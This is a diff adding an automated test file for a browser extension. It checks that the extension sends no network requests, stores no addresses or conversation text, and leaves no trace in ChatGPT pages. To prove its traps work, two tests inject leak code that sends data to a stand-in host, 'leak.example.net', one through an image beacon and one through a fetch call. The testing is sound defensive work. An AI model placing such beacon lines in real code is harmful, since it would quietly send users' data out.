@@ -1,0 +1,116 @@
+/** Promises one and two: nothing leaves the browser, and the conversation is never read. */
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { builtFor, copyOfBuild } from './built';
+import { type Browser, type BrowserName, browserNames, CHIP, launch, PANEL } from './driver';
+import { start } from './fixture-server';
+
+const settle = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+
+/** What a person does in a minute; with the extension also opens the panel, the popup and the options. */
+async function browse(browser: Browser, withExtension: boolean): Promise<void> {
+  const page = await browser.open('https://chatgpt.com/');
+  if (withExtension) {
+    await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
+    await page.click(CHIP, '.go');
+    await page.waitInShadow(PANEL, (root) => root.querySelector('.lead') !== null);
+    await page.inShadow(PANEL, (root) => {
+      for (const details of root.querySelectorAll('details')) details.open = true;
+    });
+    const popup = await browser.openPopupFor(page);
+    await popup.waitFor(() => document.querySelector('.lead') !== null);
+    await popup.goto(browser.extensionUrl('src/pages/options/options.html'));
+    await popup.waitFor(() => document.querySelector('h1') !== null);
+  }
+  await page.goto('https://gemini.google.com/');
+  await page.goto('https://www.example.org/');
+  await settle(1500);
+}
+
+/** Hosts that were asked for anything, and the paths asked of the pages visited. */
+async function hostsAsked(name: BrowserName, extension: string | undefined): Promise<string[]> {
+  const server = await start();
+  const browser = await launch(name, { server, ...(extension && { extension }), language: 'en' });
+  try {
+    await browse(browser, extension !== undefined);
+    return [...new Set(browser.requests().map(({ host, path }) => (/chatgpt|gemini|example\.org/.test(host) ? host + path : host)))].sort();
+  } finally {
+    await browser.close();
+    await server.close();
+  }
+}
+
+/** Hosts that browsers ask for by themselves, at times of their own. */
+const BROWSER_NOISE = /(^|\.)(googleapis\.com|google\.com|gvt1\.com|mozilla\.(com|org|net)|firefox\.com|mozaws\.net)$/;
+const withoutNoise = (hosts: readonly string[]) => hosts.filter((host) => !BROWSER_NOISE.test(host));
+
+describe.each(browserNames)('in %s', (name) => {
+  it('zero requests leave the browser that do not leave without the extension', async () => {
+    const without = await hostsAsked(name, undefined);
+    const withIt = await hostsAsked(name, builtFor(name));
+    expect(withoutNoise(withIt).filter((host) => !without.includes(host))).toEqual([]);
+  });
+
+  it('and the trap works: a deliberate leak from a page script is caught', async () => {
+    const leaky = copyOfBuild(name, (folder) => writeFileSync(join(folder, 'src/content/detect.iife.js'), "new Image().src = 'https://leak.example.net/secret';"));
+    const server = await start();
+    const browser = await launch(name, { server, extension: leaky.folder, language: 'en' });
+    try {
+      await browser.open('https://chatgpt.com/');
+      await settle(500);
+      expect(browser.requests().map(({ host }) => host)).toContain('leak.example.net');
+    } finally {
+      await browser.close();
+      await server.close();
+      leaky.remove();
+    }
+  });
+
+  it('its own pages and background cannot send anything even if they wanted to', async () => {
+    const server = await start();
+    const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
+    try {
+      const outcome = await browser.inBackground("try { await fetch('https://leak.example.net/background'); return 'sent'; } catch { return 'refused'; }");
+      expect(outcome).toBe('refused');
+      expect(browser.requests().map(({ host }) => host)).not.toContain('leak.example.net');
+    } finally {
+      await browser.close();
+      await server.close();
+    }
+  });
+
+  it('stores no address, no conversation and nothing finer than a day', async () => {
+    const server = await start();
+    const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
+    try {
+      const page = await browser.open('https://chatgpt.com/c/11111111-aaaa-4000-8000-000000000001');
+      await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
+      await page.click(CHIP, '.go');
+      await page.waitInShadow(PANEL, (root) => root.querySelector('.lead') !== null);
+      await settle(300);
+      const stored = JSON.stringify(await browser.inBackground('return await chrome.storage.local.get(null)'));
+      expect(stored).not.toMatch(/https?:|11111111|landlord|\d{2}:\d{2}/);
+      const databases = await browser.inBackground('return (await indexedDB.databases()).map((database) => database.name)');
+      expect(databases).toEqual(['knowledge']);
+    } finally {
+      await browser.close();
+      await server.close();
+    }
+  });
+
+  it('leaves one closed element beside the body and not a trace inside the page', async () => {
+    const server = await start();
+    const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
+    try {
+      const page = await browser.open('https://chatgpt.com/');
+      await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
+      expect(await page.evaluate((tags: string[]) => [...document.documentElement.children].map((child) => child.localName).filter((tag) => !tags.includes(tag)), ['head', 'body', CHIP])).toEqual([]);
+      expect(await page.evaluate((chip: string) => document.querySelector(chip)?.shadowRoot ?? null, CHIP)).toBeNull();
+      expect(await page.evaluate(() => [document.documentElement.className, document.documentElement.id, document.body.className, document.body.id].join(''))).toBe('');
+    } finally {
+      await browser.close();
+      await server.close();
+    }
+  });
+});
